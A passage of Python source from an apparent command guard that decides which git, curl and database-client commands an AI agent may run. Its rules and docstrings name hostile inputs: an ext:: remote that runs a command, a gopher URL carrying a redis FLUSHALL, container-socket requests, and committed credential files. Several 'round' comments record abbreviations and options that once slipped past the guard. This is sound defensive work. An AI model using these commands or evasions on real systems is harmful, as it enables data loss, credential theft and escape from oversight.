    "-b --branch -o --origin --depth --reference --reference-if-able -c --config -j --jobs "
    "--upload-pack -u --template --separate-git-dir --filter --shallow-since --shallow-exclude "
    "--server-option --bundle-uri"
)


_TAG_VALUE = word_set("-m --message -F --file -u --local-user --cleanup")


def _git_seeded(
    sub: str, rest: list[Word], values: list[str | None], flags: set[str], seg: str
) -> Verdict:
    """Refs that keep no reflog rewritten, and new repositories seeded with configuration.

    A tag has no reflog: ``tag -d`` and ``tag -f`` over an existing name lose where it pointed,
    and ``symbolic-ref`` with a target (or ``-d``) rewrites HEAD as ``update-ref`` does. A
    repository made with ``--template`` copies that directory's hooks and config into it, and
    ``clone -c KEY=VALUE`` writes the key into the new repository's config: either runs the
    agent's commands in every later git command there."""
    if sub == "tag" and flags & {"-d", "--delete", "-f", "--force"}:
        return block("git-history-rewrite", seg, "a deleted or moved tag keeps no reflog")
    if sub == "symbolic-ref" and (
        flags & {"-d", "--delete"}
        or (
            len(named := positionals(rest, word_set("-m"))) > 1
            and not _remote_default_branch(named)
        )
    ):
        return block("git-history-rewrite", seg, "git symbolic-ref rewrites HEAD")
    if sub in {"init", "clone"}:
        if flags & {"--template"} or any(
            v is not None and v.startswith("--template=") for v in values
        ):
            return block(
                "git-config-tamper",
                seg,
                "a template copies its hooks and config into the repository",
            )
        if sub == "clone":
            for key in option_values(rest, word_set("-c --config"), word_set("-c")):
                verdict = _git_key(key.value, seg)
                if not verdict.allowed:
                    return verdict
    return ALLOW


def _remote_default_branch(named: list[Word]) -> bool:
    """``git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/master`` (round 21): a
    remote's default-branch pointer set to one of that remote's tracking branches, as ``git
    remote set-head`` and ``git clone`` write it; no branch of the work moves and no commit
    is lost (the current ``HEAD``, a branch made a symbolic ref and a pointer removed with
    ``-d`` are not this)."""
    if len(named) != 2:
        return False
    ref, target = (w.value or "" for w in named)
    remote, _, rest = ref.removeprefix("refs/remotes/").partition("/")
    return (
        ref.startswith("refs/remotes/")
        and rest == "HEAD"
        and bool(remote)
        and target.startswith(f"refs/remotes/{remote}/")
        and target.count("/") > 2
        and not target.endswith("/HEAD")
    )


def _loopback_daemon(values: list[str | None]) -> bool:
    """``git daemon --listen=127.0.0.1``: every address it listens on is the loopback one."""
    hosts = [v.split("=", 1)[1] for v in values if v is not None and v.startswith("--listen=")]
    return bool(hosts) and all(h in {"127.0.0.1", "localhost", "::1"} for h in hosts)


def _git_writes(sub: str, rest: list[Word], values: list[str | None]) -> Word | None:
    """The path a git sub-command writes outside the work tree's usual places, if any: an
    output option (``archive -o``, ``format-patch -o``, ``diff --output``), the new
    repository of ``init DIR`` and ``clone URL DIR``, ``worktree add PATH``, ``bundle create
    FILE``; round 18s: the current file ``merge-file`` writes its merge into, the directory
    ``read-tree -u --prefix=DIR/`` checks files out under."""
    options = _GIT_OUTPUT.get(sub)
    if options is not None:
        for target in option_values(rest, options, options & {"-o"}, short_equals=False):
            return target
    if sub == "init":
        named = positionals(rest, word_set("--template --separate-git-dir -b --initial-branch"))
        return named[0] if named else None
    if sub == "clone":
        named = positionals(rest, _CLONE_VALUE)
        return named[1] if len(named) > 1 else None
    if sub == "worktree" and values[:1] == ["add"]:
        named = positionals(rest[1:], word_set("-b -B --reason"))
        return named[0] if named else None
    if sub == "bundle" and values[:1] == ["create"]:
        named = positionals(rest[1:], word_set("--version"))
        return named[0] if named else None
    if sub == "merge-file" and not {"-p", "--stdout"} & set(values):
        named = positionals(rest, word_set("-L --marker-size"))  # round 18s: the current file
        return named[0] if named else None
    if sub in {"read-tree", "checkout-index"}:
        # round 18s: ``read-tree -u --prefix=DIR/`` writes under DIR; round 20s: without
        # ``-u`` it stages them there for the next checkout, and ``checkout-index
        # --prefix=DIR/`` writes every file it checks out under DIR
        prefix = next((v for v in values if v is not None and v.startswith("--prefix=")), None)
        return Word(prefix[9:] or ".", prefix) if prefix is not None else None
    if sub == "submodule" and "add" in values[:2]:  # ``submodule add URL PATH`` clones to PATH
        at = values.index("add")
        named = positionals(rest[at + 1 :], word_set("-b --branch --name --reference --depth"))
        return named[1] if len(named) > 1 else None
    return None


_BRANCH_VALUE = frozenset("bBcC")
"""Short options of ``git checkout``/``switch`` that take a value (the new branch's name)."""
_COMMIT_VALUE = frozenset("mFCctSu")
"""Short options of ``git commit`` whose value may be attached: ``-m"Initial commit"`` is a
message, not the letters ``-n`` (skip hooks) and ``-i`` of a cluster."""


def _split_clusters(rest: list[Word], with_value: frozenset[str]) -> list[Word]:
    """``-qbfeature`` as git reads it: ``-q -b feature`` (a value-taking letter ends it)."""
    out: list[Word] = []
    for i, word in enumerate(rest):
        v = word.value
        if v == "--":
            out.extend(rest[i:])
            break
        if v is None:
            out.append(word)
            continue
        if not v.startswith("-") or v.startswith("--") or len(v) < 3:
            out.append(word)
            continue
        for k, letter in enumerate(v[1:], 1):
            out.append(Word(f"-{letter}", word.text, word.kind))
            if letter in with_value:
                if v[k + 1 :]:
                    out.append(Word(v[k + 1 :], word.text, word.kind))
                break
    return out


_WIDE_PATHS = frozenset({".", "*", ":/", ":(top)", "./", "..", ":/*"})
_CHECKOUT_VALUE = word_set(
    "-b -B -c -C --orphan --conflict --pathspec-from-file -U --unified --inter-hunk-context"
)
_RESTORE_VALUE = word_set(
    "-s --source --pathspec-from-file --conflict -U --unified --inter-hunk-context"
)
_TRACK_MODES = word_set("direct inherit")
"""The values of ``git checkout --track``: git reads one only attached (``--track=direct``),
so in ``--track direct main`` it takes ``direct`` for the start point and ``main`` for a path;
but with ``--track`` it checks no path out ("cannot be used with updating paths": it stops), so
reading the mode's word as the option's value, as other guards do, passes nothing git would
discard with. A start point and a path (``--track main app.py``) stay refused."""


def _track_modes_dropped(rest: list[Word]) -> list[Word]:
    """``rest`` without a ``--track`` mode's word given apart (``-t direct``: see
    :data:`_TRACK_MODES`)."""
    return [
        w
        for k, w in enumerate(rest)
        if not (w.value in _TRACK_MODES and k and rest[k - 1].value in {"-t", "--track"})
    ]


_RESTORE_LETTERS = frozenset("sSWqm23pUh")
"""The letters ``git restore`` knows (``-s``/``-U`` take a value; ``-h`` prints its usage)."""
_RESTORE_LONG = (
    "source staged worktree ignore-unmerged overlay quiet recurse-submodules progress merge "
    "conflict ours theirs patch unified inter-hunk-context ignore-skip-worktree-bits "
    "pathspec-from-file pathspec-file-nul end-of-options help git-completion-helper"
)
_RESTORE_LONG_VALUED = word_set("source conflict unified inter-hunk-context pathspec-from-file")


def _restore_stops(rest: list[Word]) -> bool:
    """``git restore`` given an option it does not know (``-b x``, ``-Sb``, ``--bogus``) before
    ``--``, anywhere on the line (git's option parser reads options after paths too): git
    prints its usage and exits 129 before it restores anything. A long option is unknown only
    when no option of restore's, nor its ``--no-`` form, starts with it (git takes a prefix:
    ``--w`` is ``--worktree``); a letter after ``-s`` or ``-U`` in a cluster is their value."""
    longs = _RESTORE_LONG.split()
    k = 0
    while k < len(rest):
        v = rest[k].value
        k += 1
        if v is None or v in {"--", "--end-of-options"}:
            return False  # paths follow, or a word computed at run time: read as before
        if v.startswith("--"):
            name, eq, _ = v[2:].partition("=")
            known = [o for o in longs if o.startswith(name) or f"no-{o}".startswith(name)]
            if not known:
                return True
            if len(known) == 1 and known[0] in _RESTORE_LONG_VALUED and not eq:
                k += 1
        elif v.startswith("-") and len(v) > 1:
            for j, letter in enumerate(v[1:], 1):
                if letter not in _RESTORE_LETTERS:
                    return True
                if letter in "sU":
                    k += j == len(v) - 1  # the value: the rest of the word, or the next word
                    break
    return False


def _git_discard(
    sub: str, rest: list[Word], values: list[str | None], flags: set[str], seg: str, ctx: Ctx
) -> Verdict:
    """Commands that throw away uncommitted work or unreachable commits of the project.

    ``checkout``/``restore`` of paths overwrite files in the working tree with a committed
    version; ``switch``/``checkout`` by force drop local changes; ``stash drop|clear``,
    ``worktree remove --force`` and ``rm -r`` of the whole tree lose work git cannot give back.
    """
    discard = "discards uncommitted changes to files"
    if sub == "checkout":
        if flags & {"-f", "--force", "-m", "--merge"} or "--pathspec-from-file" in flags:
            return block("git-checkout-discard", seg, f"git checkout by force {discard}")
        if "--" in values:
            return block("git-checkout-discard", seg, f"git checkout of paths {discard}")
        if flags & {"-b", "-B", "-c", "-C", "--orphan"}:
            return ALLOW
        names = [a.value for a in positionals(_track_modes_dropped(rest), _CHECKOUT_VALUE)]
        if len(names) > 1 or (names and (names[0] is None or _looks_like_path(names[0]))):
            return block("git-checkout-discard", seg, f"git checkout of paths {discard}")
    if sub == "restore":
        if _restore_stops(rest):
            return ALLOW  # ``git restore -b x``: git prints its usage and restores nothing
        staged_only = "--staged" in flags and not flags & {"--worktree", "-W"}
        staged_only = staged_only or ("-S" in flags and not flags & {"--worktree", "-W"})
        if not staged_only and (
            positionals(rest, _RESTORE_VALUE) or "--pathspec-from-file" in flags
        ):
            return block("git-checkout-discard", seg, f"git restore {discard}")
    if sub == "switch" and flags & {"-f", "--force", "--discard-changes"}:
        return block("git-checkout-discard", seg, f"git switch by force {discard}")
    if sub == "stash" and values[:1] in (["drop"], ["clear"]):
        return block("git-stash-drop", seg, f"git stash {values[0]} loses stashed work")
    if sub == "worktree" and values[:1] == ["remove"] and flags & {"-f", "--force"}:
        return block("git-worktree-force-remove", seg, "removing a worktree with its changes")
    if sub == "submodule" and "deinit" in values[:2] and flags & {"-f", "--force"}:
        return block(
            "git-worktree-force-remove", seg, "git submodule deinit --force drops its changes"
        )
    if sub == "rm" and flags & {"-r"} and "--cached" not in flags:
        paths = [a.value for a in positionals(rest)]
        if any(p is None or p in _WIDE_PATHS for p in paths):
            return block("git-rm-all", seg, "git rm -r of the whole tree deletes the project")
        if flags & {"-f", "--force"}:
            # ``--force`` deletes local changes git would otherwise keep: as ``rm -rf``
            return rm_targets(positionals(rest), True, ctx, seg)
    return ALLOW


_GIT_STAGERS = word_set("add stage commit update-index")
_STAGE_VALUE = word_set(
    "-m --message -F --file -C -c --reuse-message --reedit-message --author --date --fixup "
    "--squash -t --template --trailer --cleanup --chmod --pathspec-from-file --index-version"
)
_MESSAGE_FILES = word_set("-F --file -t --template")
_PATHSPEC_EXCLUDED = (":!", ":^", ":(exclude")
"""Pathspec magic that leaves the files it names out (``git add . ':!.env'``)."""


def _stages_secret(sub: str, rest: list[Word], flags: set[str], seg: str) -> Verdict:
    """``git add``/``stage``/``commit``/``update-index`` of a secret file: an env file, a
    private key or keystore, a credentials file (:func:`~ondas.guards.secret_files.secret_name`),
    or a client's credential store by its place (``.aws/credentials``, ``.ssh/id_rsa``,
    ``.kube/config``).
    Once committed it stays in the project's history, which every clone, push and review
    carries; a commit's message file (``-F .env``) is committed the same way. Passed: a dry
    run, pathspecs that exclude (``':!.env'``), a template (``.env.example``), unstaging
    (``git rm --cached .env``, ``git restore --staged .env``,
    ``git update-index --force-remove .env``)."""
    if flags & ({"--dry-run"} if sub == "commit" else {"-n", "--dry-run"}):
        return ALLOW
    words = positionals(rest, _STAGE_VALUE)
    if sub == "commit":
        words += option_values(rest, _MESSAGE_FILES, attached=frozenset({"-F", "-t"}))
    for word in words:
        v = word.value
        if v is None or v.startswith(_PATHSPEC_EXCLUDED):
            continue
        found = named_secrets(v, globs=globbed(word))
        path = v.removeprefix("./").rstrip("/")
        if found or (path[:1] == "." and "/" in path and credential_file(f"~/{path}")):
            return block(
                "git-add-secret",
                seg,
                f"git {sub} is given {(found or [v])[0][:80]!r}: a secret file (an env file, a "
                "private key, a credentials file) committed stays in the project's history, "
                "which every clone, push and review carries; keep it out (`.gitignore`) and "
                "commit a template instead (`.env.example`)",
            )
    return ALLOW


def _looks_like_path(name: str) -> bool:
    """A lone ``git checkout NAME`` that names a file, not a branch: ``.``, a glob or a name
    with a file extension (``app.py``, ``src/x.ts``); branch names rarely end in one."""
    if name in _WIDE_PATHS or any(c in name for c in "*?[") or name.startswith(("./", ":")):
        return True
    last = name.rsplit("/", 1)[-1]
    ext = last.rsplit(".", 1)[-1] if "." in last[1:] else ""
    return ext.isalpha() and not last.startswith(".")


def _git_lists(sub: str, rest: list[Word]) -> bool:
    """A sub-command that writes nothing in the repository it is pointed at: a ``config``
    read, a ``branch`` listing (no branch named, or ``--list``)."""
    if sub == "config":
        return _git_config_read(rest)
    if sub == "branch":
        flags = flag_set(rest)
        listing = {"-l", "--list", "--show-current", "--contains", "--merged", "--no-merged"}
        changes = {"-d", "-D", "--delete", "-m", "-M", "--move", "-c", "-C", "--copy", "-u"}
        changes |= {"--set-upstream-to", "--unset-upstream", "--edit-description", "-f"}
        if flags & changes or any((a.value or "").startswith("--set-upstream") for a in rest):
            return False
        return bool(flags & listing) or not positionals(rest)
    return False


_GIT_CONFIG_READ = word_set("--get --get-all --get-regexp --list -l --get-urlmatch --show-origin")
_GIT_CONFIG_CHANGE = word_set(
    "--unset --unset-all --replace-all --add --rename-section --remove-section -e --edit"
)
_GIT_CONFIG_VALUE = word_set("-f --file --blob --type --default --comment")


def _git_config_read(rest: list[Word]) -> bool:
    """``git config`` that only prints: ``--get``/``--list`` and the like, ``get``/``list``,
    or one key and no value (``git config core.hooksPath`` prints the key's value)."""
    values = [a.value for a in rest]
    if any(v in _GIT_CONFIG_READ for v in values) or values[:1] in (["get"], ["list"]):
        return True
    if any(v is None or v in _GIT_CONFIG_CHANGE for v in values):
        return False
    named = [a.value or "" for a in positionals(rest, _GIT_CONFIG_VALUE)]
    return len(named) == 1 and named[0] not in {"set", "unset", "edit"} and "=" not in named[0]


def _git_config_unabbreviated(rest: list[Word]) -> list[Word]:
    """``git config``'s words with each long option given by a prefix of one of its options
    written whole, as git's option parser reads it (round 23s: ``--fil PATH`` is ``--file
    PATH``, ``--repl`` is ``--replace-all``); a prefix of several stays as written (git stops)."""
    options = sorted(
        o
        for o in _GIT_CONFIG_VALUE
        | _GIT_CONFIG_READ
        | _GIT_CONFIG_CHANGE
        | word_set("--global --system --local --worktree")
        if o.startswith("--")
    )
    out: list[Word] = []
    for word in rest:
        head, eq, value = (word.value or "").partition("=")
        if head.startswith("--") and len(head) > 3 and head not in options:
            found = [o for o in options if o.startswith(head)]
            if len(found) == 1:
                word = Word(found[0] + eq + value, word.text)
        out.append(word)
    return out


def _git_config(rest: list[Word], ctx: Ctx, seg: str) -> Verdict:
    """``git config KEY VALUE`` may not set a command-running, hook or remote key, nor open
    the configuration in an editor (any key); a user's own attributes file set up globally
    passes (:func:`_home_attributes`)."""
    rest = _git_config_unabbreviated(rest)
    if _git_config_read(rest):
        return ALLOW
    values = [a.value for a in rest]
    if {"-e", "--edit"} & set(values) or values[:1] == ["edit"]:
        return block("git-config-tamper", seg, "git config --edit may set any key")
    keys = [
        a.value
        for a in positionals(rest, _GIT_CONFIG_VALUE)
        if a.value not in {"set", "unset", "get", "list", "rename-section", "remove-section"}
    ]
    if not keys:
        return ALLOW
    unset = bool({"--unset", "--unset-all"} & set(values)) or values[:1] == ["unset"]
    if (keys[0] or "").lower() == "core.attributesfile" and (
        unset or ("--global" in values and len(keys) > 1 and _home_attributes(keys[1], ctx))
    ):
        return ALLOW
    return _git_key(keys[0], seg, keys[1] if len(keys) > 1 else None, unset)


def _home_attributes(path: str | None, ctx: Ctx) -> bool:
    """Whether ``path``, given to ``git config --global core.attributesFile``, is the user's
    own attributes file: under the home directory, outside the project, the temporary
    directories and the agents' configuration (``~/.gitattributes``,
    ``~/.config/git/attributes``). One the agent can write unseen (the project's files, a
    temporary file) or a control file would choose the filters git runs in every repository;
    unsetting the key leaves the project's protected ``.gitattributes`` alone in charge."""
    return (
        path is not None
        and classify(path, ctx) == "home-inside"
        and not claude_config(path, ctx)
        and not _GIT_CONTROL_IN_HOME.search(path)
    )


_GIT_CONTROL_IN_HOME = LazyPattern(r"(?:^|/)\.(?:ondas|git)(?:/|$)")
"""A repository's or ondas's own directory under the home directory."""


_GIT_REWRITE = word_set("filter-branch filter-repo replace update-ref fast-import")
_ANALYZE = word_set("--analyze --force -f --quiet --debug")
"""``git filter-repo --analyze`` and the options that may go with it and take no value: any
other word may be a value (``--replace-text --analyze`` names a file) or a filter."""
_GIT_TRANSPORTS = word_set(
    "clone fetch pull push ls-remote archive remote submodule fetch-pack send-pack"
)
"""Sub-commands that take a remote's URL (an ``ext::CMD`` URL runs CMD)."""

_GIT_COMMAND_OPTIONS = {
    "grep": ("--open-files-in-pager", "-O"),
    "difftool": ("--extcmd", "-x"),
    "fetch": ("--upload-pack", "--exec"),
    "pull": ("--upload-pack", "--exec"),
    "ls-remote": ("--upload-pack",),
    "fetch-pack": ("--upload-pack", "--exec"),
    "clone": ("--upload-pack", "-u"),
    "archive": ("--exec",),
    "send-pack": ("--receive-pack", "--exec"),
    "send-email": ("--sendmail-cmd", "--to-cmd", "--cc-cmd", "--header-cmd"),
    # round 15: the web server and browser ``instaweb`` starts
    "instaweb": ("--httpd", "-d", "--browser", "-b"),
}
"""Options of git sub-commands whose value git runs as a shell command line (the pager of
``grep -O``, ``difftool``'s external tool, the remote programs of a local transport, the
mailer of ``send-email``), each long form first and its one-letter form second."""
_OPTIONAL_VALUE = frozenset({"--open-files-in-pager"})
"""Options whose value may only be attached (``-OPAGER``, ``--open-files-in-pager=PAGER``)."""


def _command_options(sub: str, rest: list[Word]) -> list[tuple[str, str | None]]:
    """The (option, command line) pairs of a git sub-command's :data:`_GIT_COMMAND_OPTIONS`."""
    options = _GIT_COMMAND_OPTIONS.get(sub)
    if options is None:
        return []
    long, short = options[0], (options[1] if len(options) > 1 and options[1][1] != "-" else "")
    found: list[tuple[str, str | None]] = []
    for k, word in enumerate(rest):
        v = word.value
        if v is None:
            continue
        following = rest[k + 1].value if k + 1 < len(rest) else None
        for option in options:
            if v.startswith(option + "=") and option.startswith("--"):
                found.append((option, v.split("=", 1)[1]))
            elif v == option and option not in _OPTIONAL_VALUE and option != short:
                found.append((option, following))
        if short and v == short and long not in _OPTIONAL_VALUE:
            found.append((short, following))
        elif short and v.startswith(short) and len(v) > 2:
            found.append((short, v[2:]))
    return found


_RUNS_HOOKS = frozenset({"commit", "merge", "am", "cherry-pick", "revert", "rebase", "pull"})
"""git's commands that run the repository's commit hooks, which ``--no-verify`` skips (``pull``
merges, and hands ``--no-verify`` to the merge: round 20, ``tune20a``)."""


def _git_contained(
    sub: str,
    rest: list[Word],
    values: list[str | None],
    flags: set[str],
    ctx: Ctx,
    depth: int,
    seg: str,
) -> Verdict:
    """git's own command hooks, history rewriting and remote changes (issue 11)."""
    if sub in {"rebase", "bisect"}:
        for k, v in enumerate(values):
            code = None
            if v in {"-x", "--exec"} and k + 1 < len(values):
                code = values[k + 1]
            elif v is not None and v.startswith("--exec="):
                code = v.split("=", 1)[1]
            elif sub == "bisect" and v == "run":
                verdict = check_argv(rest[k + 1 :], ctx, depth, seg)
                if not verdict.allowed:
                    return verdict
                continue
            else:
                continue
            if code is None:
                return block("dynamic-command", seg, "git rebase --exec of run-time text")
            verdict = ctx.check_source(code, ctx, depth + 1)
            if not verdict.allowed:
                return verdict
    for option, code in _command_options(sub, rest):
        if code is None:
            return block("dynamic-command", seg, f"git {sub} {option} of run-time text")
        verdict = ctx.check_source(code, ctx, depth + 1)  # git hands it to a shell
        if not verdict.allowed:
            return verdict
    if sub == "submodule" and "foreach" in values:
        k = values.index("foreach")
        tail = [v for v in values[k + 1 :] if v not in {"--recursive", "-q", "--quiet"}]
        if any(v is None for v in tail):
            return block("dynamic-command", seg, "git submodule foreach of run-time text")
        verdict = ctx.check_source(" ".join(str(v) for v in tail), ctx, depth + 1)
        if not verdict.allowed:
            return verdict
    if sub in _GIT_TRANSPORTS and any((v or "").lower().startswith("ext::") for v in values):
        return block("git-config-tamper", seg, "an ext:: remote is a command git runs")
    if sub == "replace" and (
        not positionals(rest, word_set("--format")) or "-l" in flags or "--list" in flags
    ):
        return ALLOW  # ``git replace -l``, ``git replace``: the replacements listed
    analyzed = {w.value for w in rest}
    if sub == "filter-repo" and "--analyze" in analyzed and analyzed <= _ANALYZE:
        return ALLOW  # ``--analyze`` writes a report under .git/filter-repo, rewrites nothing
    if sub in _GIT_REWRITE:
        return block("git-history-rewrite", seg, f"git {sub} rewrites history or refs")
    if sub == "reflog" and values[:1] in (["expire"], ["delete"], ["drop"]):
        from ondas.guards.bash_git_work import reflog_expire_keeps  # these verbs only

        if values[0] == "expire" and reflog_expire_keeps(values[1:]):
            return ALLOW  # ``--expire=90.days.ago``: what ``git gc`` expires itself
        return block("git-history-rewrite", seg, "expiring the reflog loses recoverable history")
    if sub == "prune" or (sub == "gc" and _long(values, "--prune") in {"now", "all"}):
        return block("git-history-rewrite", seg, "pruning unreachable objects now")
    if sub == "remote" and values[:1] in (["set-url"], ["remove"], ["rm"], ["rename"]):
        return block("git-remote-change", seg, "changing or removing a remote")
    if sub in _RUNS_HOOKS and ("--no-verify" in values or (sub == "commit" and "-n" in flags)):
        return block("git-skip-hooks", seg, "skipping the repository's hooks")
    if ctx.assigned and sub in _RUNS_HOOKS:
        from ondas.guards.bash_hook_switches import hook_switch  # variables set for these only

        switch = hook_switch(ctx.assigned)
        if switch is not None:
            return block(
                "git-skip-hooks",
                seg,
                f"{switch} makes a hook manager skip the repository's hooks, as --no-verify does",
            )
    return ALLOW


def _long(values: Sequence[str | None], option: str) -> str | None:
    """The value of the long ``option`` among ``values`` ('' when given bare), spelled in full
    or, as git's option parser accepts, by any prefix of it (``--h`` for ``--hard``, ``--p=now``
    for ``--prune=now``); None when absent. A prefix two options share makes git stop with an
    error, so taking it as the destructive one refuses nothing that would run otherwise."""
    for v in values:
        if v == "--":
            break  # operands follow
        if v is None or not v.startswith("--") or len(v) < 3:
            continue
        name, _, value = v.partition("=")
        if option.startswith(name):
            return value
    return None


_ABBREVIABLE = (
    "--force",
    "--discard-changes",
    "--delete",
    "--staged",
    "--worktree",
    "--reset",
)
"""Long options of git's that discard or delete, which its rules look for among the flags
(:func:`_long` reads the others by prefix)."""


def _abbreviated(flags: set[str]) -> set[str]:
    """The options of :data:`_ABBREVIABLE` that ``flags`` give by a prefix, as git's option
    parser accepts (round 16s: ``git clean --forc -dx``, ``git checkout --forc main`` passed
    where ``--force`` was refused); a prefix two options share makes git stop, as
    :func:`_long` says, so reading it as the destructive one refuses nothing that would run."""
    return {
        option
        for flag in flags
        if flag.startswith("--") and len(flag) > 2 and flag not in _ABBREVIABLE
        for option in _ABBREVIABLE
        if option.startswith(flag)
    }


def _remote_url(value: str) -> str | None:
    if _URLISH.match(value):
        return None if value.lower().startswith("file://") else value
    match = _SCP_LIKE.match(value)
    if (match and "." in match.group(1)) or (match and "@" in value):
        return f"ssh://{match.group(1)}" if match else None
    return None


_RAW_SCHEME = LazyPattern(r"(?i)^(?:gophers?|dict|telnet)://")
"""URL schemes whose requests are raw bytes the URL spells (round 17: ``gopher://127.0.0.1:6379/
_FLUSHALL`` is a redis command)."""
_CURL_GLOB = LazyPattern(r"\{[^{}]*\}|\[[^\[\]]*\]")


def curl_globbed(url: str) -> list[str]:
    """The URLs curl makes of one with ``{a,b}`` and ``[1-9]`` globs (round 17): each host a
    brace in the authority names (``https://{github.com,x.example.net}/``); a glob after the
    host only changes the path, read as one plain segment."""
    if "{" not in url and "[" not in url:
        return [url]
    scheme, sep, rest = url.partition("://")
    authority, slash, path = rest.partition("/")
    path = _CURL_GLOB.sub("x", path)
    hosts = [authority]
    brace = re.search(r"\{([^{}]*)\}", authority)
    if brace is not None:
        hosts = [
            authority[: brace.start()] + choice + authority[brace.end() :]
            for choice in brace.group(1).split(",")
        ]
    return [f"{scheme}{sep}{host}{slash}{path}" for host in hosts]


_HOST_OPTIONS = word_set("-h --host")
_DB_URI = LazyPattern(r"(?i)^(?:postgres(?:ql)?|mysql|mariadb|rediss?|mongodb(?:\+srv)?)://")


def database_hosts(name: str, args: list[Word], ctx: Ctx, seg: str) -> Verdict:
    """A database client (:data:`~ondas.guards.bash_base.DATABASE_CLIENTS`) told to connect
    to a server beyond the machine (round 17: ``psql -h HOST``, ``redis-cli -h HOST``, ``psql
    postgresql://u@HOST/db``): that host is judged as a URL's is (the network policy). A name
    of one label (``db``, ``postgres``: a compose
    service or the machine's own), a socket directory and the loopback stay allowed."""
    values = [a.value for a in args]
    for k, v in enumerate(values):
        if v is None:
            continue
        option, eq, given = v.partition("=")
        host: str | None = None
        if option in _HOST_OPTIONS:
            host = given if eq else (values[k + 1] if k + 1 < len(values) else None)
        elif v.startswith("-h") and len(v) > 2 and not v.startswith("--"):
            host = v[2:]
        elif _DB_URI.match(given if eq else v):
            uri = given if eq else v
            host = host_of_uri(uri)
        if host is None or host.startswith("/") or _local_name(host):
            continue
        verdict = network_url(f"db://{host}", ctx, seg)
        if not verdict.allowed:
            return verdict
    return ALLOW


_PRIVATE_SUFFIXES = (".internal", ".local", ".lan", ".localdomain", ".home.arpa", ".corp")


def _local_name(host: str) -> bool:
    """A name of one label (``db``, a compose service) or of a private network's domain
    (``db.internal``, ``nas.local``): not a host on the internet."""
    bare = host.strip("[]").lower()
    return ("." not in bare and ":" not in bare) or bare.endswith(_PRIVATE_SUFFIXES)


def host_of_uri(uri: str) -> str | None:
    """The host of a connection URI (``postgresql://user:pw@host:5432/db``)."""
    rest = uri.split("://", 1)[1]
    authority = rest.split("/", 1)[0].split("?", 1)[0].rsplit("@", 1)[-1]
    host = authority.split(",", 1)[0]
    if host.startswith("["):
        return host.split("]", 1)[0] + "]"
    return host.rsplit(":", 1)[0] if host.count(":") == 1 else host or None


def network_url(url: str, ctx: Ctx, seg: str) -> Verdict:
    from ondas.guards.whitelist import host_of, url_allowed

    if url_allowed(url, ctx.whitelist):
        return ALLOW

    host = host_of(url) or url
    return block("network-not-whitelisted", seg, f"{host} is not in the project's URL whitelist")


_CURL_VALUE = word_set(
    "-o --output -H --header -d --data --data-binary --data-raw --data-urlencode "
    "--data-ascii --json -X --request -u --user -A --user-agent -e --referer -b "
    "--cookie -c --cookie-jar -F --form --form-string -T --upload-file -U "
    "--proxy-user -m --max-time --connect-timeout -w --write-out -r --range -K "
    "--config --resolve --connect-to --cacert --capath --cert --key -E --retry "
    "--retry-delay --retry-max-time -Y -y --limit-rate -z --interface --dns-servers "
    "--oauth2-bearer --proto --proto-redir --max-redirs -C --continue-at -P "
    "--ftp-port -Q --quote --output-dir --unix-socket --abstract-unix-socket "
    "--variable --trace --trace-ascii --stderr --cert-type --key-type --pass "
    "--ciphers --header-file --max-filesize --local-port --expect100-timeout "
    "--happy-eyeballs-timeout-ms --aws-sigv4 --hostpubmd5 --pinnedpubkey "
    "--socks5-gssapi-service --service-name --mail-from --mail-rcpt --mail-auth "
    "--netrc-file --time-cond --tlsuser --tlspassword --tls-max --dump-header -D "
    "--keepalive-time --ftp-method"
)
_CURL_URL_VALUE = word_set(
    "--url -x --proxy --preproxy --socks5 --socks4 --socks5-hostname --socks4a --doh-url"
)
_WGET_VALUE = word_set(
    "-O --output-document -o --output-file -a --append-output -P --directory-prefix "
    "-U --user-agent --header -t --tries -T --timeout -w --wait -e --execute -B "
    "--base -Q --quota --limit-rate --post-data --post-file --user --password "
    "--http-user --http-password --load-cookies --save-cookies --ca-certificate -l "
    "--level -A -R -D -X -I --accept --reject --domains --exclude-directories "
    "--include-directories --method --body-data --body-file --referer --certificate "
    "--private-key --bind-address"
)


_ENGINE_SOCKET = LazyPattern(r"(?:docker|podman|containerd|crio|buildkitd)\.sock\b")
"""A container engine's API socket: whoever writes to it is root on the host (round 15)."""


def _curl(name: str, args: list[Word], ctx: Ctx, depth: int, seg: str, s: Stdin | None) -> Verdict:
    value_opts = _CURL_VALUE if name == "curl" else _WGET_VALUE
    urls: list[Word] = []
    methods: list[str | None] = []
    i = 0
    while i < len(args):
        word = args[i]
        v = word.value
        if v is None:
            urls.append(word)
        elif v.startswith("--"):
            opt, eq, val = v.partition("=")
            if opt in {"--request", "--method"}:
                methods.append(val if eq else args[i + 1].value if i + 1 < len(args) else "")
            if opt in _CURL_REDIRECTS and name == "curl":
                redirect = val if eq else args[i + 1].value if i + 1 < len(args) else ""
                verdict = _redirected_host(opt, redirect, ctx, seg)
                if not verdict.allowed:
                    return verdict
            if opt == "--execute" and name != "curl":
                verdict = _wget_setting(
                    val if eq else args[i + 1].value if i + 1 < len(args) else None, ctx, seg
                )
                if not verdict.allowed:
                    return verdict
            if opt == "--dns-servers" and name == "curl":
                servers = val if eq else args[i + 1].value if i + 1 < len(args) else None
                for server in (servers or "").split(","):  # round 15: a resolver it asks
                    verdict = network_url(f"dns://{server.strip()}", ctx, seg)
                    if not verdict.allowed:
                        return verdict
            if opt == "--unix-socket" and name == "curl":
                path = val if eq else args[i + 1].value if i + 1 < len(args) else None
                if path is None or _ENGINE_SOCKET.search(path):
                    return block(
                        "privilege-escalation",
                        seg,
                        "a request to a container engine's socket: its API starts privileged "
                        "containers with the host mounted, as root",
                    )
            if opt in _CURL_URL_VALUE:
                urls.append(
                    Word(val, word.text) if eq else args[i + 1] if i + 1 < len(args) else word
                )
                i += 0 if eq else 1
            elif opt in {"--input-file", "--next"} or (opt == "-i" and name != "curl"):
                return block("network-unknown-target", seg, "URLs read from a file")
            elif opt in value_opts and not eq:
                i += 1
        elif v.startswith("-") and len(v) > 1:
            cluster = v[1:]
            for k, ch in enumerate(cluster):
                opt = f"-{ch}"
                if name != "curl" and opt == "-i":
                    return block("network-unknown-target", seg, "URLs read from a file")
                if opt in _CURL_URL_VALUE or opt in value_opts:
                    tail = cluster[k + 1 :]
                    value = (
                        Word(tail, word.text)
                        if tail
                        else (args[i + 1] if i + 1 < len(args) else None)
                    )
                    if not tail:
                        i += 1
                    if opt in _CURL_URL_VALUE and value is not None:
                        urls.append(value)
                    if name == "curl" and opt == "-X":
                        methods.append(value.value if value is not None else "")
                    if name != "curl" and opt == "-e" and value is not None:
